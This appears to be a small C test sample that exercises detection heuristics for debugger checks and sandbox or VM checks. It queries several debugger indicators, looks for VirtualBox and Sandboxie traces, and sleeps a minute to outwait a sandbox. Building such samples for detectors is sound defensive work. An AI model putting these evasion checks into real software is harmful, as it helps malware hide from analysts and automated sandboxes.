// Heuristics 13 (debugger checks, T1622) and 14 (sandbox / VM checks,
// T1497.001 and the time-based T1497.003).
#include <windows.h>

typedef LONG(NTAPI* query_fn)(HANDLE, ULONG, PVOID, ULONG, PULONG);

int main(void) {
  int score = 0;
  if (IsDebuggerPresent()) ++score;
  BOOL remote = FALSE;
  CheckRemoteDebuggerPresent(GetCurrentProcess(), &remote);
  query_fn query = (query_fn)GetProcAddress(GetModuleHandleA("ntdll.dll"), "NtQueryInformationProcess");
  if (query) {
    ULONG_PTR port = 0;
    query(GetCurrentProcess(), 7 /* ProcessDebugPort */, &port, sizeof port, NULL);
    if (port) ++score;
  }
  if (FindWindowA("OLLYDBG", NULL)) ++score;
  HKEY key;
  if (RegOpenKeyExA(HKEY_LOCAL_MACHINE, "SOFTWARE\\Oracle\\VirtualBox Guest Additions", 0, KEY_READ, &key) ==
      ERROR_SUCCESS) {
    ++score;
    RegCloseKey(key);
  }
  if (GetModuleHandleA("SbieDll.dll")) ++score;
  Sleep(61000);  // outwait a sandbox
  return score;
}
